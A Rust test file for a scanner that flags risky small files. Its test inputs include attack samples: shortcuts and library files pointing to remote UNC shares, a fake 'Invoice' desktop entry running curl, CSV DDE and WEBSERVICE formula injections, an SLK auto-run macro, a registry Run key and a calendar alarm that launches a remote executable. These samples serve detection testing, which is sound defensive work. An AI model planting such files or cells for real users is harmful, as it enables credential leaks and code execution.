//! Small files that a double click acts on: harmless ones and others.

use expect_test::{Expect, expect};

use crate::formats::shown::{damage, open, shown};

fn check(name: &str, text: &str, expected: &Expect) {
    expected.assert_eq(&shown(name, text.as_bytes()));
}

fn marks(name: &str, text: &str) -> String {
    open(name, "", text.as_bytes()).items[0].marks.join(" ")
}

#[test]
fn shortcuts_of_the_web() {
    check(
        "a.url",
        "[InternetShortcut]\r\nURL=https://www.example.org/page\r\nIconIndex=0\r\n",
        &expect![[r#"
        1 url [a.url] 
            text: [InternetShortcut]
            text: URL=https://www.example.org/page
            text: IconIndex=0
            Field: https://www.example.org/page []
    "#]],
    );
    let share = "[InternetShortcut]\r\nURL=file://198.51.100.7/share/a.exe\r\nIconFile=\\\\198.51.100.7\\i\\a.ico\r\nWorkingDirectory=\\\\198.51.100.7\\share\r\n";
    check(
        "a.url",
        share,
        &expect![[r#"
        1 url [a.url] unc_path
            text: [InternetShortcut]
            text: URL=file://198.51.100.7/share/a.exe
            text: IconFile=\\198.51.100.7\i\a.ico
            text: WorkingDirectory=\\198.51.100.7\share
            Field: file://198.51.100.7/share/a.exe []
            Fetched: \\198.51.100.7\i\a.ico []
            Fetched: \\198.51.100.7\share []
    "#]],
    );
    let wide: Vec<u8> = b"\xff\xfe".iter().copied().chain(share.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    assert!(shown("a.url", &wide).contains("unc_path"));
}

#[test]
fn shortcuts_of_desktops() {
    check(
        "a.desktop",
        "[Desktop Entry]\nType=Application\nName=Invoice\nExec=sh -c 'curl https://load.example/x'\nIcon=pdf\n",
        &expect![[r#"
        1 text [a.desktop] command_line
            text: [Desktop Entry]
            text: Type=Application
            text: Name=Invoice
            text: Exec=sh -c 'curl https://load.example/x'
            text: Icon=pdf
            Field: https://load.example/x []
    "#]],
    );
    check(
        "a.desktop",
        "[Desktop Entry]\nType=Link\nName=Page\nURL=https://page.example/\n",
        &expect![[r#"
        1 text [a.desktop] 
            text: [Desktop Entry]
            text: Type=Link
            text: Name=Page
            text: URL=https://page.example/
            Field: https://page.example/ []
    "#]],
    );
}

#[test]
fn settings_that_reach_out_or_start_programs() {
    assert_eq!(
        marks("a.scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.7\\a\\b.ico\r\n"),
        "command_line unc_path"
    );
    assert_eq!(marks("autorun.inf", "[AutoRun]\r\nopen=setup.exe\r\nicon=setup.exe,0\r\n"), "autorun_inf command_line");
    assert_eq!(marks("a.inf", "[DefaultInstall]\r\nRunPreSetupCommands=Go\r\n[Go]\r\ncmd\r\n"), "launch command_line");
    assert_eq!(
        marks(
            "a.theme",
            "[Theme]\r\nDisplayName=a\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\198.51.100.7\\a.png\r\n"
        ),
        "unc_path"
    );
    assert_eq!(
        marks(
            "a.reg",
            "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"a\"=\"C:\\\\a.exe\"\r\n"
        ),
        "launch"
    );
    check(
        "a.rdp",
        "screen mode id:i:2\r\nfull address:s:rdp.example:3389\r\nremoteapplicationprogram:s:||explorer\r\n",
        &expect![[r#"
        1 rdp [a.rdp] command_line
            text: screen mode id:i:2
            text: full address:s:rdp.example:3389
            text: remoteapplicationprogram:s:||explorer
            Field: rdp.example:3389 []
    "#]],
    );
    check(
        "a.iqy",
        "WEB\r\n1\r\nhttps://query.example/data\r\n",
        &expect![[r#"
        1 iqy [a.iqy] external_link
            text: WEB
            text: 1
            text: https://query.example/data
            Fetched: https://query.example/data []
    "#]],
    );
}

#[test]
fn kin_in_xml() {
    check(
        "Documents.library-ms",
        "<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\198.51.100.7\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>",
        &expect![[r#"
            1 library-ms [Documents.library-ms] unc_path
                text: \\198.51.100.7\share
                Fetched: \\198.51.100.7\share []
                Text: \\198.51.100.7\share []
        "#]],
    );
    check(
        "a.settingcontent-ms",
        "<?xml version=\"1.0\"?><PCSettings><SearchableContent xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\"><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c echo a</DeepLink><Icon>%windir%\\system32\\control.exe</Icon></ApplicationInformation></SearchableContent></PCSettings>",
        &expect![[r#"
            1 settingcontent-ms [a.settingcontent-ms] command_line
                text: %windir%\system32\cmd.exe /c echo a
                text: %windir%\system32\control.exe
        "#]],
    );
}

#[test]
fn calendars_and_contacts_are_read_and_clean() {
    expect![[r#"
        1 ics [meeting.ics] 
            text: Budget meeting, room 4; floor 2
            text: Agenda:
            text: please read https://docs.example/agenda before we meet, it is a rather long line that is folded by the program that writes it
            text: https://meet.example/j/123
            text: Alice Example
            text: Join the meeting
            Text: https://docs.example/agenda []
            Text: https://meet.example/j/123 []
            Field: mailto:alice@example.org [Alice Example]
            Field: https://calendar.example/event/1 []
            Anchor: https://login.example/teams [the meeting]
        1/line:0 text [notes.txt] 
            text: words of the attached file
    "#]].assert_eq(&shown("meeting.ics", include_bytes!("../../../testdata/small/meeting.ics")));
    expect![[r#"
        1 vcard [eva.vcf] 
            text: eva@example.org
            text: Eva Müller
            text: Müller Eva
            text: Call after six
            Field: https://eva.example/ []
        1/line:0 png [] picture_unread
    "#]]
    .assert_eq(&shown("eva.vcf", include_bytes!("../../../testdata/small/eva.vcf")));
    let unnamed = shown("", include_bytes!("../../../testdata/small/meeting.ics"));
    assert!(unnamed.starts_with("1 ics"), "{unnamed}");
}

#[test]
fn old_calendars_and_contacts() {
    check(
        "a.vcf",
        "BEGIN:VCARD\r\nVERSION:2.1\r\nN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:M=C3=BCller;Eva=\r\n Maria\r\nPHOTO;JPEG;ENCODING=BASE64:\r\n /9j/4AAQ\r\n SkZJRg==\r\n\r\nitem1.URL:file://198.51.100.7/a\r\nEND:VCARD\r\n",
        &expect![[r#"
            1 vcard [a.vcf] unc_path
                text: Müller Eva Maria
                Field: file://198.51.100.7/a []
            1/line:0 jpeg [] picture_unread
        "#]],
    );
    check(
        "a.vcs",
        "BEGIN:VCALENDAR\r\nVERSION:1.0\r\nBEGIN:VEVENT\r\nSUMMARY;ENCODING=QUOTED-PRINTABLE:Gr=C3=BC=\r\n=C3=9Fe\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:\\\\\\\\198.51.100.7\\\\a.exe\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
        &expect![[r#"
            1 ics [a.vcs] launch unc_path
                text: Grüße
                Field: \\198.51.100.7\a.exe []
        "#]],
    );
}

#[test]
fn cells_that_are_formulas_and_cells_that_are_not() {
    for cell in [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=A1",
        "\"=A1\"",
        "\"\r=A1\"",
        "=HYPERLINK(\"https://a.example/\")",
        "=\"a\"",
        " =A1",
    ] {
        let marks = marks("a.csv", &format!("name,value\r\nx,{cell}\r\n"));
        assert!(marks.starts_with("formula"), "{cell} {marks}");
        assert_eq!(marks.contains("dde"), cell.contains("cmd|"), "{cell} {marks}");
    }
    for cell in [
        "-5",
        "+49 170 1234567",
        "-1,024.50",
        "- a list (of things)",
        "@handle",
        "=====",
        "--",
        "+",
        "a=b",
        "5-3",
        "(+1) 555-0100",
        "-0.5e-3",
        "+1 (555) 010-0100",
        "- see the long list (below)",
        "-- \"quoted\"",
    ] {
        assert_eq!(marks("a.csv", &format!("name,value\r\nx,\"{cell}\"\r\n")), "", "{cell}");
    }
    assert_eq!(marks("a.csv", "a,b\n1,\u{ff1d}cmd|'/C calc'!A0\n"), "formula dde", "in wide letters");
    assert_eq!(marks("a.tsv", "a\tb\n1\t=WEBSERVICE(\"https://a.example/\"&A1)\n"), "formula external_link");
}

#[test]
fn symbolic_links() {
    let text = "ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;K0;EEXEC(\"calc.exe\")\r\nC;X1;Y102;K\"shown\";EHALT()\r\nE\r\n";
    check(
        "a.slk",
        text,
        &expect![[r#"
        1 slk [a.slk] xlm auto_run formula
            text: 0
            text: shown
            other: ID;P
            other: O;E
            other: NN;NAuto_open;ER101C1;KOut Flank;F
            other: C;X1;Y101;K0;EEXEC("calc.exe")
            other: C;X1;Y102;K"shown";EHALT()
            other: E
    "#]],
    );
    // A spreadsheet takes it for what it is, whatever its name.
    assert_eq!(marks("a.csv", text).split(' ').find(|mark| *mark == "xlm"), Some("xlm"));
}

#[test]
fn damaged_files_break_nothing() {
    damage("a.ics", "", include_bytes!("../../../testdata/small/meeting.ics"), 1_500);
    damage("a.vcf", "", include_bytes!("../../../testdata/small/eva.vcf"), 1_000);
    damage("a.url", "", b"[InternetShortcut]\r\nURL=file://198.51.100.7/share\r\nIconFile=\\\\h\\i.ico\r\n", 1_000);
    damage("a.csv", "", b"a,b\r\n=cmd|' /C calc'!A0,\"=HYPERLINK(\"\"x\"\")\"\r\n", 1_000);
    damage("a.library-ms", "", b"<libraryDescription><url>\\\\h\\s</url><![CDATA[x]]></libraryDescription>", 1_000);
}
